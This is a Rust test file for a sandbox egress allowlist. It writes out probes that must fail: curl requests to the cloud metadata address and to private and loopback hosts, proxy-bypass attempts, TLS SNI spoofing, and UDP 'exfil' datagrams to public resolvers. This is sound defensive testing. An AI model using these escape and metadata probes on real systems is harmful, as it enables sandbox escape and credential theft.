//! Attempts to get out past the allowlist, from inside the sandbox. Each
//! must fail, fail fast, and never reach the upstream.

use crate::common::{modes, Sandbox};
use crate::{find, flows, run_sh, value_of, Upstream};

const PROFILE: &str = r#"mode = "allowlist"
allow = ["api.test:8080", "api.test:443", "*.svc.test:8080", "meta.test:80", "localhost:8080", "internal.test:8080"]
deny = ["blocked.svc.test"]
allow_cidr = ["{net}"]
hosts = { "api.test" = "{ip}", "svc.test" = "{ip}", "blocked.svc.test" = "{ip}", "other.test" = "{ip}", "meta.test" = "169.254.169.254", "internal.test" = "192.168.77.1" }
"#;

#[test]
fn denied_names_ports_and_wildcards_fail_both_ways() {
    let up = Upstream::start();
    for mode in modes() {
        let sb = Sandbox::new(mode);
        let profile = up.profile(&sb, PROFILE);
        let run = run_sh(
            &sb,
            &profile,
            "code() { curl -sS -m 10 -o /dev/null -w '%{http_code}' \"$@\" 2>/dev/null; echo \" rc=$?\"; }; \
             echo other_proxy=$(code http://other.test:8080/hello); \
             echo other_body=$(curl -sS -m 10 http://other.test:8080/hello); \
             echo other_capture=$(code --noproxy '*' http://other.test:8080/hello); \
             echo other_dns=$(python3 -c \"import socket\ntry:\n socket.getaddrinfo('other.test', 80); print('resolved')\nexcept socket.gaierror as e: print('gaierror', e.errno)\"); \
             echo port_proxy=$(code http://api.test:8081/hello); \
             echo port_capture=$(code --noproxy '*' http://api.test:8081/hello); \
             echo apex_proxy=$(code http://svc.test:8080/hello); \
             echo denied_proxy=$(code http://blocked.svc.test:8080/hello); \
             echo denied_capture=$(code --noproxy '*' http://blocked.svc.test:8080/hello)",
        );
        assert_eq!(run.code(), Some(0), "{}", run.describe());
        assert_eq!(
            value_of(&run, "other_proxy"),
            "403 rc=0",
            "{}",
            run.describe()
        );
        assert!(
            value_of(&run, "other_body").contains("no allow rule matches other.test:8080"),
            "{}",
            run.describe()
        );
        // curl exit 6: could not resolve host (NXDOMAIN).
        assert_eq!(value_of(&run, "other_capture"), "000 rc=6");
        assert_eq!(value_of(&run, "other_dns"), "gaierror -2"); // EAI_NONAME
        assert_eq!(value_of(&run, "port_proxy"), "403 rc=0");
        // No capture listener on 8081: refused at once (curl exit 7).
        assert_eq!(value_of(&run, "port_capture"), "000 rc=7");
        assert_eq!(value_of(&run, "apex_proxy"), "403 rc=0");
        assert_eq!(value_of(&run, "denied_proxy"), "403 rc=0");
        assert_eq!(value_of(&run, "denied_capture"), "000 rc=6");
        let f = flows(&run);
        let denied_rule = find(&f, "http", Some("blocked.svc.test"), "deny");
        assert!(
            denied_rule[0]["reason"]
                .as_str()
                .unwrap()
                .contains("denied by rule blocked.svc.test"),
            "{denied_rule:?}"
        );
        let dns = find(&f, "dns", Some("other.test"), "deny");
        assert!(!dns.is_empty(), "{f:#?}");
        assert!(find(&f, "http", Some("api.test"), "deny")[0]["reason"]
            .as_str()
            .unwrap()
            .contains("api.test:8081"));
    }
    assert_eq!(up.log(), "", "a refused request reached the upstream");
}

#[test]
fn internal_and_metadata_addresses_are_refused() {
    let up = Upstream::start();
    for mode in modes() {
        let sb = Sandbox::new(mode);
        // No allow_cidr: the upstream's private address is refused too.
        let profile = up.profile(&sb, &PROFILE.replace("allow_cidr = [\"{net}\"]\n", ""));
        let run = run_sh(
            &sb,
            &profile,
            "body() { curl -sS -m 10 \"$@\" 2>&1 | head -c 300 | tr '\\n' ' '; echo; }; \
             echo private=$(body http://api.test:8080/hello); \
             echo meta=$(body http://meta.test/latest/meta-data/); \
             echo meta_capture=$(body --noproxy '*' http://meta.test/latest/meta-data/); \
             echo loop=$(NO_PROXY= no_proxy= body http://localhost:8080/); \
             echo lan=$(body http://internal.test:8080/); \
             echo literal=$(body http://{ip}:8080/hello); \
             echo literal_direct=$(body --noproxy '*' http://{ip}:8080/hello); \
             echo meta_direct=$(body --noproxy '*' http://169.254.169.254/); \
             echo own_loop=$(body --noproxy '*' http://127.0.0.1:8080/)"
                .replace("{ip}", &up.ip)
                .as_str(),
        );
        assert_eq!(run.code(), Some(0), "{}", run.describe());
        let has = |key: &str, needle: &str| {
            let v = value_of(&run, key);
            assert!(
                v.contains(needle),
                "{key}: {v:?} lacks {needle:?}\n{}",
                run.describe()
            );
        };
        has("private", "private (RFC 1918) address");
        has("meta", "169.254.169.254 is a cloud metadata address");
        has("meta_capture", "Could not resolve host");
        has("loop", "loopback address");
        has("lan", "192.168.77.1 is a private (RFC 1918) address");
        has("literal", &format!("no allow rule matches {}:8080", up.ip));
        has("literal_direct", "Failed to connect"); // no route: only lo exists
        has("meta_direct", "Failed to connect");
        // 8080 is an allowed port, so a capture listener holds it inside;
        // 127.0.0.1 is no name the DNS handed out: closed at once.
        has("own_loop", "curl: (5");
        let f = flows(&run);
        let own = find(&f, "capture", None, "deny");
        assert!(
            own.iter().any(|x| x["reason"]
                .as_str()
                .unwrap()
                .starts_with("direct connection to 127.0.0.1:8080")),
            "{own:?}"
        );
        let meta_dns = find(&f, "dns", Some("meta.test"), "deny");
        assert!(
            meta_dns[0]["reason"]
                .as_str()
                .unwrap()
                .contains("cloud metadata"),
            "{meta_dns:?}"
        );
    }
    assert_eq!(up.log(), "", "a refused request reached the upstream");
}

const PY_SNI: &str = r#"import socket,ssl,sys
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
def via_proxy(connect_name, sni):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    s.sendall(("CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n" % (connect_name, connect_name)).encode())
    head = b""
    while b"\r\n\r\n" not in head:
        c = s.recv(1)
        if not c: break
        head += c
    if not head.startswith(b"HTTP/1.1 200"):
        return "connect-refused"
    return talk(s, sni)
def via_capture(name, sni):
    return talk(socket.create_connection((name, 443), timeout=10), sni)
def talk(s, sni):
    try:
        t = ctx.wrap_socket(s, server_hostname=sni)
        t.sendall(b"GET /hello HTTP/1.0\r\nHost: api.test\r\n\r\n")
        data = b""
        while True:
            c = t.recv(4096)
            if not c: break
            data += c
        return "ok" if b"hello from upstream" in data else "no-data"
    except (OSError, ssl.SSLError) as e:
        return "tls-failed"
print("match_proxy=" + via_proxy("api.test", "api.test"))
print("mismatch_proxy=" + via_proxy("api.test", "other.test"))
print("mismatch_capture=" + via_capture("api.test", "other.test"))
print("match_capture=" + via_capture("api.test", "api.test"))
"#;

#[test]
fn tls_sni_must_match_the_name() {
    let up = Upstream::start();
    for mode in modes() {
        let sb = Sandbox::new(mode);
        sb.put("sni.py", PY_SNI.as_bytes(), 0o644);
        let profile = up.profile(&sb, PROFILE);
        let run = run_sh(&sb, &profile, "python3 /workspace/sni.py");
        assert_eq!(run.code(), Some(0), "{}", run.describe());
        assert_eq!(value_of(&run, "match_proxy"), "ok", "{}", run.describe());
        assert_eq!(value_of(&run, "match_capture"), "ok", "{}", run.describe());
        assert_eq!(value_of(&run, "mismatch_proxy"), "tls-failed");
        assert_eq!(value_of(&run, "mismatch_capture"), "tls-failed");
        let f = flows(&run);
        let bad: Vec<_> =
            f.iter()
                .filter(|x| {
                    x["verdict"] == "deny"
                        && x["reason"].as_str().unwrap().contains(
                            "TLS SNI other.test does not match the requested name api.test",
                        )
                })
                .collect();
        assert_eq!(bad.len(), 2, "{f:#?}");
        // Refused before a byte went out.
        assert!(bad.iter().all(|x| x["bytes_out"] == 0), "{bad:?}");
    }
    let log = up.log();
    assert_eq!(
        log.matches("GET /hello").count(),
        2 * crate::common::modes().len(),
        "{log}"
    );
}

const PY_UDP: &str = r#"import socket,sys
targets = [(sys.argv[1], 5353), ("8.8.8.8", 53), ("169.254.169.254", 53), ("1.1.1.1", 443)]
for t in targets:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.sendto(b"exfil", t)
        print("udp=sent %s" % (t,))
    except OSError as e:
        print("udp=%s %d" % (t[0], e.errno))
# DNS straight to a public resolver, over TCP.
try:
    socket.create_connection(("8.8.8.8", 53), timeout=5)
    print("tcp53=connected")
except OSError as e:
    print("tcp53=%d" % e.errno)
"#;

#[test]
fn udp_and_direct_dns_go_nowhere() {
    let up = Upstream::start();
    for mode in modes() {
        let sb = Sandbox::new(mode);
        sb.put("udp.py", PY_UDP.as_bytes(), 0o644);
        let profile = up.profile(&sb, PROFILE);
        let run = run_sh(
            &sb,
            &profile,
            &format!("python3 /workspace/udp.py {}", up.ip),
        );
        assert_eq!(run.code(), Some(0), "{}", run.describe());
        let lines: Vec<String> = crate::out_lines(&run)
            .into_iter()
            .filter_map(|l| l.strip_prefix("udp=").map(str::to_owned))
            .collect();
        assert_eq!(lines.len(), 4, "{}", run.describe());
        for l in &lines {
            assert!(
                l.ends_with(" 101"),
                "UDP was not refused (ENETUNREACH): {l}"
            );
        }
        assert_eq!(value_of(&run, "tcp53"), "101");
    }
    std::thread::sleep(std::time::Duration::from_millis(200));
    assert_eq!(up.log(), "", "a datagram reached the upstream");
}
